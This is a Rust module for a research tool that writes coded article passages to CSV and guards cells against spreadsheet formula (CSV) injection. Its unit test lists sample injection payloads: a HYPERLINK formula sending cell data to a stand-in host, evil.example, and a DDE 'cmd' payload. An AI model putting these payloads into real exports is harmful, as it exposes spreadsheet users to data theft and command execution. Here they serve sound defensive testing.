//! CSV of coded segments: one row per passage and tag (a passage without
//! tags gets one row with an empty tag), with its article's metadata, for
//! spreadsheets, R and pandas. The `csv` crate does the quoting (quotes,
//! commas and line breaks inside a quote or a note are common).
//!
//! Text from articles and from the researcher goes through [`text_cell`]:
//! a spreadsheet opening the file would run a cell that starts like a
//! formula (`=HYPERLINK(…)` in an article's title is enough).

use std::borrow::Cow;

use crate::{Error, Result};

use super::data::Snapshot;

const HEADER: [&str; 16] = [
    "passage_id",
    "article_id",
    "title",
    "outlet",
    "author",
    "published",
    "url",
    "source",
    "start",
    "end",
    "quote",
    "tag",
    "tag_path",
    "note",
    "status",
    "created",
];

pub fn coded_segments(snap: &Snapshot) -> Result<Vec<u8>> {
    let paths = snap.tag_paths();
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(HEADER).map_err(csv_error)?;
    for p in &snap.passages {
        let a = snap.info(p.article_id);
        let mut tags: Vec<(String, String)> = p
            .tags
            .iter()
            .map(|t| {
                let path = paths.get(&t.id).map(|p| p.join("/")).unwrap_or_default();
                (t.name.clone(), path)
            })
            .collect();
        if tags.is_empty() {
            tags.push((String::new(), String::new()));
        }
        for (tag, path) in tags {
            let text = |s: &str| text_cell(s).into_owned();
            w.write_record([
                p.id.to_string().as_str(),
                &a.id.to_string(),
                &text(&a.title),
                &text(a.outlet.as_deref().unwrap_or("")),
                &text(a.author.as_deref().unwrap_or("")),
                &text(a.published.as_deref().unwrap_or("")),
                &text(a.url.as_deref().unwrap_or("")),
                &text(&a.source),
                &p.start.to_string(),
                &p.end.to_string(),
                &text(&p.quote),
                &text(&tag),
                &text(&path),
                &text(&p.note),
                p.status.as_str(),
                &p.created_at,
            ])
            .map_err(csv_error)?;
        }
    }
    w.into_inner()
        .map_err(|e| Error::invalid(format!("cannot write the CSV: {e}")))
}

/// A text cell a spreadsheet shows as text: OWASP's guard against CSV
/// injection prefixes a single quote to a cell that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (and, as ASVS adds, NUL), which
/// Excel, LibreOffice and Google Sheets would otherwise read as a formula.
/// The quote shows in tools that read CSV as data (R, pandas): a note
/// "-5% on the year" comes back as "'-5% on the year".
pub(super) fn text_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

pub(super) fn csv_error(e: csv::Error) -> Error {
    Error::invalid(format!("cannot write the CSV: {e}"))
}

#[cfg(test)]
mod tests {
    use super::text_cell;

    #[test]
    fn cells_that_start_like_formulas_are_quoted() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(
                text_cell(formula),
                format!("'{formula}"),
                "a spreadsheet would evaluate {formula:?}"
            );
        }
        for text in ["Talks in Minsk", "", "a = b", "'already quoted", "1990"] {
            assert_eq!(text_cell(text), text, "plain text stays as it is");
        }
    }
}
